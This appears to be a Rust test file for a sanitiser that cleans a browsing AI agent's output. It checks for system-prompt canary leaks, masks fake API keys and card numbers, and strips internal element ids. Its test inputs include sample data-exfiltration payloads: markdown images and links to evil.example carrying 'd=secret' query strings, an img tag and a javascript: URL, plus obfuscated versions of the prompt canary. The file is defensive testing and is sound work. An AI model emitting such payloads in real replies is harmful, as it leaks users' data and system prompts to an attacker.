use super::*;
use crate::safety::user_request::UserRequest;
use proptest::prelude::*;

fn origins() -> Origins {
    Origins::new(
        Some("https://shop.example/"),
        &UserRequest::new("look", &[]),
    )
}

fn clean(text: &str) -> Cleaned {
    let knowledge: String = (0..60).map(|word| format!("word{word} ")).collect();
    let origins = origins();
    let speech = Speech {
        canary: "orchid-lantern-93",
        knowledge: &[&knowledge],
        origins: &origins,
    };
    speech.clean(text)
}

#[test]
fn our_prompt_is_never_said() {
    for text in [
        "My rules: orchid-lantern-93.",
        "ORCHID LANTERN 93",
        "o r c h i d l a n t e r n 9 3",
        "39-nretnal-dihcro",
        "orchid\u{200b}-lantern-93 and more",
    ] {
        let cleaned = clean(text);
        assert_eq!(cleaned.text, WITHHELD, "{text}");
        assert_eq!(cleaned.removed, [Removed::Canary]);
    }
}

#[test]
fn strange_pictures_and_links_go() {
    let cases = [
        (
            "See ![x](https://evil.example/a.png?d=secret).",
            "See .",
            Removed::Picture,
        ),
        (
            "See [the offer](https://evil.example/?d=1) now",
            "See the offer now",
            Removed::Link,
        ),
        ("[a](//evil.example/x)", "a", Removed::Link),
        ("![a](data:image/png;base64,xyz) b", "b", Removed::Picture),
        (
            "<img src=https://evil.example/x> done",
            "done",
            Removed::Picture,
        ),
        (
            "<a href='https://evil.example'>click</a> it",
            "click it",
            Removed::Link,
        ),
        (
            "done <img src=https://evil.example/x",
            "done",
            Removed::Picture,
        ),
        (
            "Look at https://evil.example/c?d=secret, please",
            "Look at evil.example, please",
            Removed::Link,
        ),
        (
            "https://secret.evil.example/c",
            "evil.example",
            Removed::Link,
        ),
        (
            "[x][1]\n[1]: https://evil.example/c?d=1",
            "[x][1]",
            Removed::Link,
        ),
        ("[a](javascript:alert(1))", "a)", Removed::Link),
    ];
    for (text, left, reason) in cases {
        let cleaned = clean(text);
        assert_eq!(cleaned.text, left, "{text}");
        assert!(
            cleaned.removed.contains(&reason),
            "{text}: {:?}",
            cleaned.removed
        );
    }
}

#[test]
fn keys_and_card_numbers_become_dots() {
    let cases = [
        "sk-abcdefghijklmnopqrstuvwx",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijk",
        "4111 1111 1111 1111",
        "4111-1111-1111-1111",
        "a9F3kLm2Qx7Zr8Tb5Yw1Nc4Vd6Hs0Jg2Pe9Ru3Oi7",
        "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
        "{{secret:1}}",
    ];
    for key in cases {
        let cleaned = clean(&format!("The value is {key} here"));
        assert_eq!(cleaned.text, "The value is •••• here", "{key}");
    }
}

#[test]
fn a_document_is_not_read_aloud() {
    let quote = |words: usize| {
        (0..words)
            .map(|word| format!("word{word}"))
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(clean(&quote(40)).removed, []);
    let long = clean(&format!("It says: {} and so on", quote(50)));
    assert_eq!(long.removed, [Removed::Knowledge]);
    assert!(
        long.text.starts_with("It says: word0") && long.text.ends_with("and so on"),
        "{}",
        long.text
    );
    assert!(!long.text.contains("word20"));
}

#[test]
fn the_machines_own_words_go() {
    let cases = [
        ("I press element 12 now.", "I press element now."),
        ("Clicking [12] to go on", "Clicking to go on"),
        ("The field (id=7) is empty", "The field is empty"),
        ("I call click(12).", "I call."),
        ("The DOM has changed", "The page has changed"),
    ];
    for (text, left) in cases {
        assert_eq!(clean(text).text, left, "{text}");
        assert_eq!(clean(text).removed, [Removed::Machine]);
    }
}

#[test]
fn ordinary_sentences_stay() {
    for text in [
        "I press “Sign in”.",
        "There are 12 results, the cheapest is $24.90.",
        "The verification code was sent to your phone.",
        "See https://shop.example/orders?id=12 for the order.",
        "See [your orders](https://shop.example/orders).",
        "Is 3 < 5 and 7 > 6?",
        "Order 1001 (40.00) is cancelled.",
        "Ich habe das Formular ausgefüllt – alles gut.",
        "Line one\nLine two",
        "",
    ] {
        let cleaned = clean(text);
        assert_eq!((cleaned.text.as_str(), cleaned.removed), (text, vec![]));
    }
}

proptest! {
    #[test]
    fn any_text_can_be_cleaned(text: String) {
        let cleaned = clean(&text);
        prop_assert!(!cleaned.text.contains("{{secret:"));
    }
}
